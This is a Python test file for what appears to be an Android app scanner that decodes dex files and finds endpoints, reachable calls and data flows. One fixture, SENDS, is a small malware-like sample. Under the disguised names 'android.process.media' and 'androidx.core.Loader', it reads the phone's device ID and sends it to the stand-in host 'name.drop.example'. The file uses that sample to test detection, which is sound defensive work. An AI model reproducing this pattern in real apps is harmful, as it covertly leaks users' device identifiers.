"""Several files, containers and files that cannot be read."""

import io
from collections.abc import Callable
from zipfile import ZipFile

from rogue_scan.apk import intake
from rogue_scan.apk.code.types import AppContext, CodeFacts, ComponentInfo
from rogue_scan.apk.dex import reader

MAIN = """
.class Lapp/Main; Landroid/app/Activity;
.method onCreate(Landroid/os/Bundle;)V 3
invoke-static {} Lapp/Other;->go()V
return-void
"""
OTHER = """
.class Lapp/Other;
.method static go()V 4
new-instance v0, Ljava/net/URL;
const-string v1, "http://other.example/x"
invoke-direct {v0, v1} Ljava/net/URL;-><init>(Ljava/lang/String;)V
invoke-virtual {v0} Ljava/net/URL;->openConnection()Ljava/net/URLConnection;
return-void
"""
CONTEXT = AppContext("app", (ComponentInfo("app.Main", "activity"), ComponentInfo("app.Gone", "service")))
Build = Callable[..., bytes]
Analyse = Callable[..., CodeFacts]


def test_calls_cross_files(build: Build, analyse_files: Analyse) -> None:
    facts = analyse_files([("classes.dex", build(MAIN)), ("classes2.dex", build(OTHER))], CONTEXT)
    assert [e.value for e in facts.endpoints] == ["http://other.example/x"]
    assert facts.methods == facts.methods_reachable == 2
    assert {c.at.dex for c in facts.calls} == {"classes2.dex"}


def test_both_files_of_a_container_are_read(build: Build, analyse_files: Analyse) -> None:
    first = build(MAIN, version="041")
    size = len(first) + len(build(OTHER, version="041"))
    first = build(MAIN, version="041", container=size)
    data = first + build(OTHER, version="041", start=len(first), container=size)
    files = reader.read_all("classes.dex", data)
    assert [(d.name, d.class_name(0), d.problems) for d in files] == [
        ("classes.dex", "Lapp/Main;", []),
        ("classes.dex!1", "Lapp/Other;", []),
    ]
    assert [e.value for e in analyse_files([("classes.dex", data)], CONTEXT).endpoints] == [
        "http://other.example/x"
    ]


def test_components_without_a_class_are_told(build: Build, analyse_files: Analyse) -> None:
    assert analyse_files([("classes.dex", build(MAIN))], CONTEXT).missing_components == ("app.Gone",)


def test_a_file_that_cannot_be_read_does_not_hide_the_others(build: Build) -> None:
    package = io.BytesIO()
    with ZipFile(package, "w") as archive:
        archive.writestr("classes.dex", build(MAIN))
        archive.writestr("classes2.dex", b"dex\n099\0" + bytes(200))
    facts = intake.decode(package.getvalue()).facts
    assert facts.code is not None and facts.code.methods == 1
    assert [(p.part, "magic" in p.message) for p in facts.problems] == [("classes2.dex", True)]


def test_of_two_definitions_the_first_one_counts(build: Build, analyse_files: Analyse) -> None:
    decoy = OTHER.replace("other.example", "second.example")
    files = [("classes.dex", build(MAIN)), ("classes2.dex", build(OTHER)), ("classes3.dex", build(decoy))]
    facts = analyse_files(files, CONTEXT)
    assert "http://other.example/x" in {e.value for e in facts.endpoints}
    assert {c.at.dex for c in facts.calls if c.reachable} == {"classes2.dex"}


def test_an_own_copy_of_an_android_class_is_never_asked_for(build: Build, analyse_files: Analyse) -> None:
    fake = """
    .class Landroid/telephony/TelephonyManager;
    .method getDeviceId()Ljava/lang/String; 2
    const-string v0, "fake"
    return-object v0
    """
    main = """
    .class Lapp/Main; Landroid/app/Activity;
    .method onCreate(Landroid/os/Bundle;)V 4
    const/4 v0, 0
    check-cast v0, Landroid/telephony/TelephonyManager;
    invoke-virtual {v0} Landroid/telephony/TelephonyManager;->getDeviceId()Ljava/lang/String;
    return-void
    """
    facts = analyse_files([("classes.dex", build(main)), ("classes2.dex", build(fake))], CONTEXT)
    assert [s.data.value for s in facts.sources] == ["device-id"]


SENDS = """
.class Landroid/process/media/Main; Landroid/app/Activity;
.method onCreate(Landroid/os/Bundle;)V 5
const-string v0, "phone"
invoke-virtual {v3, v0} Landroid/process/media/Main;->getSystemService(Ljava/lang/String;)Ljava/lang/Object;
move-result-object v0
check-cast v0, Landroid/telephony/TelephonyManager;
invoke-virtual {v0} Landroid/telephony/TelephonyManager;->getDeviceId()Ljava/lang/String;
move-result-object v1
invoke-static {v1} Landroidx/core/Loader;->go(Ljava/lang/String;)V
return-void
.class Landroidx/core/Loader;
.method static go(Ljava/lang/String;)V 5
const-string v0, "tag"
const-string v1, "http://name.drop.example/?q="
invoke-virtual {v1, v4} Ljava/lang/String;->concat(Ljava/lang/String;)Ljava/lang/String;
move-result-object v1
new-instance v2, Ljava/net/URL;
invoke-direct {v2, v1} Ljava/net/URL;-><init>(Ljava/lang/String;)V
invoke-virtual {v2} Ljava/net/URL;->openStream()Ljava/io/InputStream;
return-void
"""


def test_names_of_android_and_kits_hide_nothing(build: Build, analyse_files: Analyse) -> None:
    context = AppContext("android.process.media", (ComponentInfo("android.process.media.Main", "activity"),))
    [flow] = analyse_files([("classes.dex", build(SENDS))], context).flows
    assert (flow.data.value, flow.sink.value, flow.endpoint) == ("device-id", "http", "name.drop.example")


def test_calls_of_what_is_inherited_are_named_by_android_s_class(
    build: Build, analyse_files: Analyse
) -> None:
    text = """
    .class Lapp/Main; Landroid/app/Activity;
    .method HOW()V 4
    const-string v0, "tmp"
    const/4 v1, 1
    invoke-virtual {v3, v0, v1} Lapp/Main;->openFileOutput(Ljava/lang/String;I)Ljava/io/FileOutputStream;
    return-void
    """
    api = "Landroid/app/Activity;->openFileOutput(Ljava/lang/String;I)Ljava/io/FileOutputStream;"
    for how, reachable in (("onResume", True), ("never", False)):
        facts = analyse_files([("classes.dex", build(text.replace("HOW", how)))], CONTEXT)
        assert [(c.api, c.args, c.reachable) for c in facts.calls] == [(api, ("tmp", 1), reachable)]


def test_calls_of_a_kit_are_named_by_its_class_and_own_ones_are_none(
    build: Build, analyse_files: Analyse
) -> None:
    text = """
    .class Lapp/Main; Landroid/app/Activity;
    .method onResume()V 2
    const-string v0, "app_open"
    invoke-virtual {v1, v0} Lapp/Main;->own(Ljava/lang/String;)V
    sget-object v1, Lcom/facebook/appevents/Events;->only:Lcom/facebook/appevents/Events;
    invoke-virtual {v1, v0} Lcom/facebook/appevents/Events;->log(Ljava/lang/String;)V
    return-void
    .method own(Ljava/lang/String;)V 2
    return-void
    .class Lcom/facebook/appevents/Events;
    .field static only:Lcom/facebook/appevents/Events;
    .method log(Ljava/lang/String;)V 2
    return-void
    """
    facts = analyse_files([("classes.dex", build(text))], CONTEXT)
    api = "Lcom/facebook/appevents/Events;->log(Ljava/lang/String;)V"
    assert [(c.api, c.args) for c in facts.calls] == [(api, ("app_open",))]
